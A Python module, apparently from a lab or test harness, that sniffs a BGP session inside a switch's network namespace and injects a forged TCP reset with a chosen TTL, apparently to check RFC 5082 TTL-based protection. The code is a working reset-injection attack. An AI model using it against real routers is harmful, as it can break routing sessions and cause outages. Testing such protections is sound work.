"""Ends the TCP session of BGP between two switches by a forged packet, in the namespace of one.

A router that is further away than the neighbour cannot send packets that arrive with the TTL 255
(RFC 5082).
"""

from __future__ import annotations

import socket
import struct

BGP = 179
PATIENCE = 30.0
"""Seconds until a segment comes: keepalives are 3 s apart."""
EVERY_PROTOCOL = 3
"""Sockets of one protocol see no packet that goes out."""
RESET = 4


def segment(interface: str, near: bytes, far: bytes) -> tuple[int, int, int]:
    """The ports of the next segment, and the number that follows its last byte."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(EVERY_PROTOCOL)) as taken:
        taken.bind((interface, EVERY_PROTOCOL))
        taken.settimeout(PATIENCE)
        while True:
            packet = taken.recv(65535)
            if packet[0] >> 4 != 4:
                continue
            if packet[9] == socket.IPPROTO_TCP and (packet[12:16], packet[16:20]) == (near, far):
                (whole,) = struct.unpack("!H", packet[2:4])
                tcp = packet[4 * (packet[0] & 15) : whole]
                source, target, number = struct.unpack("!HHI", tcp[:8])
                if BGP in (source, target):
                    size = len(tcp) - 4 * (tcp[12] >> 4)
                    return source, target, (number + size) % (1 << 32)


def checksum(data: bytes) -> int:
    """That of the Internet (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(near: bytes, far: bytes, ports: tuple[int, int], number: int, ttl: int) -> bytes:
    """The packet; the kernel fills in length and checksum of its IPv4 header."""
    tcp = struct.pack("!HHIIBBHHH", *ports, number, 0, 5 << 4, RESET, 0, 0, 0)
    above = near + far + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(above + tcp)) + tcp[18:]
    ipv4 = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, ttl, socket.IPPROTO_TCP, 0)
    return ipv4 + near + far + tcp


def forge(interface: str, near_text: str, far_text: str, ttl: int) -> None:
    """Wait for a segment of the session, and send a reset behind it.

    Args:
        interface: of the link, in the namespace that this thread has entered.
        near_text: its IPv4 address, from which the segment comes.
        far_text: that of the other end.
        ttl: of the reset; 0: there is none, and this only waits.
    """
    near, far = socket.inet_aton(near_text), socket.inet_aton(far_text)
    *ports, number = segment(interface, near, far)
    if ttl:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
            packet = reset(near, far, (ports[0], ports[1]), number, ttl)
            sender.sendto(packet, (far_text, 0))
